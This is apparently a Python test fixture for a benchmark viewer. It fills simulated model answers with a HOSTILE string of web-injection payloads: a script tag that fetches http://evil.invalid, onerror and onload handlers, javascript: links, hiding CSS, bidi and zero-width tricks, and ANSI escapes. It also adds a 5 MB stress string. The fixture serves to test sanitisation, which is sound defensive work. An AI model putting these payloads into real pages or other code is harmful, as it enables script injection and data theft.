"""A run whose one model wrote texts that want to be more than text, on a grey image."""

from __future__ import annotations

from pathlib import Path

from PIL import Image

from spinebench.benchmarks.images import ImageStore
from spinebench.records import ImageRef, JournalEntry, Outcome
from spinebench.store import RunFolder, Workspace
from spinebench.store.ingest import ingest
from tests.stored_runs import answer, diagnosis, key, scored, spec

HOSTILE = (
    "<script>window.hacked = 1; fetch('http://evil.invalid/s')</script>"
    "<img src='http://evil.invalid/i.png' onerror='window.hacked = 2'> ![x](http://evil.invalid/m.png) "
    "[click](javascript:window.hacked=3) <a href='javascript:window.hacked=4'>go</a> "
    "</div></mark><style>* { display: none }</style> \u202eevil\u202c \x1b[31mred\x1b[0m zero\u200bwidth "
    ":material/home: $x^2$ <svg onload='window.hacked = 5'></svg> My final option: [A]"
)
LONG = "<b>word</b> " * 420_000
"""5 MB."""


def hostile_workspace(folder: Path) -> Workspace:
    """Two items with an image of grey, one answered with `HOSTILE` by two models, the other with 5 MB by one."""
    images = folder / "images"
    images.mkdir(parents=True)
    Image.linear_gradient("L").convert("RGB").save(images / "film.png")
    (folder / "secret.txt").write_text("nobody's business", "utf-8")
    ref = ImageRef(path="film.png")
    workspace = Workspace(folder / "workspace")
    sent = ImageStore(images, cache_dir=workspace.cache_dir / "images").prepare(ref).image
    items = [
        diagnosis(name).model_copy(update={"images": (ref,), "question": "Which? " + HOSTILE})
        for name in ("d1", "d2")
    ]
    run_spec = spec(n_items=2).model_copy(
        update={"plan": {"image_root": str(images), "benchmark": "b.jsonl"}}
    )
    run: RunFolder = workspace.create_run(run_spec, items)
    entries = []
    for item, model, text in (
        (items[0], "sim/a", HOSTILE),
        (items[1], "sim/a", LONG),
        (items[0], "sim/b", HOSTILE),
    ):
        of = key(item.id, model)
        said = answer(of, text=text).model_copy(
            update={"images": (sent,), "reasoning": HOSTILE, "provider_model": HOSTILE}
        )
        entries.append(JournalEntry(answer=said, scored=scored(of, item, item.gold, Outcome.CORRECT_DISEASE)))
    run.journal.append(entries)
    run.journal.close()
    ingest(workspace)
    return workspace
